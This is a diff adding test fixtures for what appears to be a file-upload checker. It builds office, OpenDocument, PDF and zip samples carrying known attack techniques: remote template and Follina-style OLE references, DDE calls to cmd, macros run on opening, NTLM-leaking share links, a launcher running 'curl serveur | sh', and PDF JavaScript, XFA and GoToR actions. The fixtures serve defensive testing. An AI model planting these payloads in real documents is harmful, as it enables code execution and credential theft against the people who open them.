@@ -82,6 +82,147 @@ def ooxml(kind="docx", extra=None):
     return _zip(members)
 
 
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relationships(*entries):
+    """A ``.rels`` part: ``entries`` are (type, target, target mode or ``None``)."""
+    rows = "".join(
+        f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for number, (kind, target, mode) in enumerate(entries, start=100)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{rows}</Relationships>"
+    )
+
+
+def docx_with_relationships(*entries, part="word/_rels/document.xml.rels"):
+    """A Word document whose ``part`` holds ``entries`` (see :func:`relationships`)."""
+    return ooxml("docx", {part: relationships(*entries)})
+
+
+# Word fetches the template its settings name when the document opens, and runs its macros
+# (« remote template injection »).
+REMOTE_TEMPLATE = ("attachedTemplate", "https://serveur.example/modele.dotm", "External")
+# An OLE object Word loads from an address (« Follina », CVE-2022-30190, used mhtml: so).
+REMOTE_OLE_OBJECT = ("oleObject", "mhtml:https://serveur.example/page.html!x-usc:x", "External")
+# An image linked, not embedded: fetched from a share at opening, with the user's credentials.
+LINKED_IMAGE = ("image", "file://serveur/partage/logo.png", "External")
+# A web page in a frame of the document.
+REMOTE_FRAME = ("frame", "https://serveur.example/cadre.html", "External")
+# A link the reader may click: allowed.
+HYPERLINK = ("hyperlink", "https://www.essonne.fr/", "External")
+
+
+def odf_content(body):
+    """An OpenDocument spreadsheet's ``content.xml`` holding ``body`` in its spreadsheet."""
+    namespaces = " ".join(
+        f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
+        for prefix, name in [
+            ("office", "office"),
+            ("table", "table"),
+            ("text", "text"),
+            ("draw", "drawing"),
+            ("script", "script"),
+            ("presentation", "presentation"),
+            ("meta", "meta"),
+        ]
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        f'<office:document-content {namespaces} xmlns:xlink="http://www.w3.org/1999/xlink" '
+        f'office:version="1.3"><office:body><office:spreadsheet>{body}</office:spreadsheet>'
+        "</office:body></office:document-content>"
+    )
+
+
+def ods(body="", *, extra=None):
+    """An OpenDocument spreadsheet whose content holds ``body``, with ``extra`` members."""
+    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
+        'manifest:version="1.3">'
+        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+        "</manifest:manifest>"
+    )
+    members = {"META-INF/manifest.xml": manifest, "content.xml": odf_content(body)}
+    return _zip({**members, **(extra or {})}, first_stored=("mimetype", mimetype))
+
+
+def cell(inner):
+    return f"<table:table><table:table-row><table:table-cell>{inner}</table:table-cell>" + (
+        "</table:table-row></table:table>"
+    )
+
+
+# Content an OpenDocument fetches or runs outside itself when it opens: (what, content.xml).
+ODF_FETCHING = {
+    # A sheet linked to another file, read again at opening.
+    "linked sheet": (
+        '<table:table table:name="T"><table:table-source xlink:type="simple" '
+        'xlink:href="https://serveur.example/donnees.ods" table:mode="copy-all"/></table:table>'
+    ),
+    # An image linked from a share (LibreOffice loads it: CVE-2018-10583).
+    "linked image": cell(
+        '<draw:frame><draw:image xlink:type="simple" xlink:actuate="onLoad" '
+        'xlink:href="file://serveur/partage/logo.png"/></draw:frame>'
+    ),
+    "linked object": cell(
+        '<draw:frame><draw:object xlink:href="https://serveur.example/objet.ods"/></draw:frame>'
+    ),
+    # A section of text read from another document.
+    "linked section": cell(
+        '<text:section text:name="S"><text:section-source xlink:href="../../secret.odt"/>'
+        "</text:section>"
+    ),
+    # The address escaped, with another prefix for the XLink namespace.
+    "escaped address": cell(
+        '<draw:frame><draw:image xmlns:l="http://www.w3.org/1999/xlink" '
+        'l:href="&#x68;ttps://serveur.example/pixel.png"/></draw:frame>'
+    ),
+}
+# Content that runs a program or a macro: (what, content.xml, words of the refusal).
+ODF_RUNNING = {
+    "DDE link": (
+        '<table:table table:name="T"><office:dde-source office:dde-application="cmd" '
+        'office:dde-topic="/c calc" office:dde-item="A1"/></table:table>',
+        "DDE",
+    ),
+    "macro on opening": (
+        '<office:event-listeners><script:event-listener script:language="ooo:script" '
+        'script:event-name="dom:load" '
+        'xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;location=application"/>'
+        "</office:event-listeners>",
+        "macros",
+    ),
+    "macro in a link": (
+        cell(
+            '<text:p><text:a xlink:href="vnd.sun.star.script:x.py$run?location=share">x'
+            "</text:a></text:p>"
+        ),
+        "macros",
+    ),
+    "button running a program": (
+        '<presentation:event-listener script:event-name="dom:click" presentation:action="execute" '
+        'xlink:href="file:///C:/Windows/System32/calc.exe"/>',
+        "lance un programme",
+    ),
+}
+# Links that are only followed on a click, and pictures inside the package: allowed.
+ODF_ALLOWED = cell(
+    '<text:p><text:a xlink:type="simple" xlink:href="https://www.essonne.fr/">Essonne</text:a>'
+    '</text:p><draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
+    '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
+    '<draw:a xlink:href="https://www.essonne.fr/"><draw:frame/></draw:a>'
+)
+
+
 def _dir_entry(name, kind, *, child=NOSTREAM, right=NOSTREAM, start=ENDOFCHAIN, size=0):
     encoded = (name + "\x00").encode("utf-16-le") if name else b""
     return (
@@ -232,6 +373,40 @@ def zip_kit():
     return _zip({"affiche.pdf": pdf(), "programme.odt": odt(), "logo.png": png()})
 
 
+def zip_with_symlink(name, target):
+    """A kit whose member ``name`` is a symbolic link to ``target``, as ``zip --symlinks`` on
+    Linux or macOS stores one: its data is the target's path, its Unix mode says « link »."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(zipfile.ZipInfo("affiche.pdf", MEMBER_TIME), pdf())
+        link = zipfile.ZipInfo(name, MEMBER_TIME)
+        link.create_system = 3  # Unix
+        link.external_attr = (0o120777 << 16) | 0x20
+        archive.writestr(link, target)
+    return out.getvalue()
+
+
+# Files of text, accepted as such by their content, that a computer does not open as text once
+# unpacked: their name makes them shortcuts, commands, queries or scripts.
+NAMED_TO_RUN = {
+    # Opens the address, here a program on a network share (Windows).
+    "site.url": b"[InternetShortcut]\r\nURL=file://serveur/partage/facture.exe\r\n",
+    # Explorer loads its icon from the share as soon as the folder is shown, sending the
+    # user's credentials (NTLM hash) to that server.
+    "dossier.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\serveur\\partage\\icone.ico\r\n",
+    # A Linux desktop launcher: double-clicked, it runs its command.
+    "programme.desktop": (
+        b"[Desktop Entry]\nType=Application\nName=Programme\nExec=sh -c 'curl serveur | sh'\n"
+    ),
+    # An Excel web query: Excel fetches the address and shows what it returns.
+    "budget.iqy": b"WEB\r\n1\r\nhttps://serveur.example/requete\r\n",
+    # A SYLK spreadsheet: Excel computes its formulas, here a DDE call that starts a program.
+    "budget.slk": b"ID;P\r\nC;Y1;X1;K0;E=cmd|'/c calc'!A0\r\nE\r\n",
+    # A Python script, run by a double-click where Python is installed.
+    "outil.py": b"import os\nos.system('calc')\n",
+}
+
+
 def pdf_with_javascript():
     return pdf().replace(
         b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
@@ -309,15 +484,76 @@ def pdf_15(
     return out.getvalue()
 
 
-def compressed_pdf(catalog=b"", *, streams=None, **options):
+def compressed_pdf(catalog=b"", *, annotation=None, streams=None, **options):
     """A one-page PDF whose catalog, pages, page and font are in a Flate object stream;
-    ``catalog`` adds entries to the catalog (an ``/OpenAction``…)."""
+    ``catalog`` adds entries to the catalog (an ``/OpenAction``…), ``annotation`` (a
+    dictionary) is put on the page, packed too."""
     objects = {**PAGE_OBJECTS, 1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog}
+    packed = {1, 2, 3, 5}
+    if annotation:
+        objects[3] = objects[3].replace(b"/Contents", b"/Annots [6 0 R] /Contents")
+        objects[6] = annotation
+        packed.add(6)
     content = {4: (b"/Filter /FlateDecode", zlib.compress(PAGE_CONTENT))}
-    return pdf_15(objects, {**content, **(streams or {})}, packed={1, 2, 3, 5}, **options)
+    return pdf_15(objects, {**content, **(streams or {})}, packed=packed, **options)
 
 
 OPEN_JAVASCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
+
+
+def incremental_update(pdf_data, objects, *, root=1):
+    """``pdf_data`` (a PDF 1.4 with a classic cross-reference table) followed by an incremental
+    update: ``objects`` ({number: body}) written again or added, as a PDF editor saves."""
+    out = io.BytesIO(pdf_data)
+    out.seek(0, io.SEEK_END)
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = out.tell()
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+    xref = out.tell()
+    out.write(b"xref\n")
+    for number, offset in sorted(offsets.items()):
+        out.write(b"%d 1\n%010d 00000 n \n" % (number, offset))
+    previous = int(pdf_data.rsplit(b"startxref", 1)[1].split()[0])
+    size = max(max(offsets) + 1, int(pdf_data.rsplit(b"/Size", 1)[1].split()[0]))
+    out.write(
+        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (size, root, previous, xref)
+    )
+    return out.getvalue()
+
+
+# Active content a PDF reader runs or fetches, that the checker once let through: each is what
+# an attacker writes, in a real PDF.
+
+# JavaScript in a multimedia (« Rendition ») action: ``/JS`` without the word « JavaScript ».
+OPEN_RENDITION_JAVASCRIPT = b"/OpenAction << /S /Rendition /OP 4 /JS (app.alert(1)) >> "
+# An XFA form: XML whose <script> elements Acrobat runs.
+XFA_FORM = (
+    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">'
+    b'<event activity="initialize"><script contentType="application/x-javascript">'
+    b"app.alert(1)</script></event></subform></template></xdp:xdp>"
+)
+# Flash, video or 3D played by the reader.
+RICH_MEDIA_ANNOTATION = (
+    b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
+    b"/RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) >>] >> >> >>"
+)
+# A file attached to a page, whose embedded stream omits its optional ``/Type /EmbeddedFile``.
+ATTACHMENT_ANNOTATION = (
+    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /Name /PushPin "
+    b"/FS << /Type /Filespec /F (facture.exe) /EF << /F 9 0 R >> >> >>"
+)
+# Opening a file on a network share when the document opens: Windows sends the user's
+# credentials (NTLM hash) to that server (« BadPDF »).
+OPEN_REMOTE_FILE = (
+    b"/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\x.pdf) /D [0 /Fit] >> "
+)
+# A link to a web page: allowed.
+LINK_ANNOTATION = (
+    b"<< /Type /Annot /Subtype /Link /Rect [56 770 300 790] /Border [0 0 0] "
+    b"/A << /S /URI /URI (https://www.essonne.fr/) >> >>"
+)
 
 
 # Every kind accepted: (upload name, sample, kind code, content type served).
